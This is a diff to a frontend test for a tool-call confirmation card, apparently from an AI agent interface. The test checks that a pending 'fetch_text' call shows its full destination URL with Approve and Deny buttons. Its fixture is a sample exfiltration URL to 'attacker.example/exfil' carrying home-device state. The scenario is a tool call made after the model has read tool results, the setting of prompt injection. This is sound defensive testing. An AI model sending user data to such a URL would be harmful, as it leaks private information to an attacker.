@@ -11,7 +11,12 @@ describe('a tool call that sends a request out after the model read tool results
   it('shows the whole URL with Approve and Deny', () => {
     const url = `https://attacker.example/exfil?d=${'light.kitchen%3Doff%26'.repeat(12)}end`;
     const decide = vi.fn();
-    render(<ToolCallCard call={{ id: 'c1', name: 'fetch_text', arguments: { url }, needsConfirmation: true, status: 'pending', sendsTo: url }} onDecide={decide} />);
+    render(
+      <ToolCallCard
+        call={{ id: 'c1', name: 'fetch_text', arguments: { url }, needsConfirmation: true, status: 'pending', sendsTo: url }}
+        onDecide={decide}
+      />,
+    );
     const shown = screen.getByText(url, { selector: 'code' });
     expect(shown.closest('.tool-confirm')).not.toBeNull();
     fireEvent.click(screen.getByRole('button', { name: 'Deny' }));
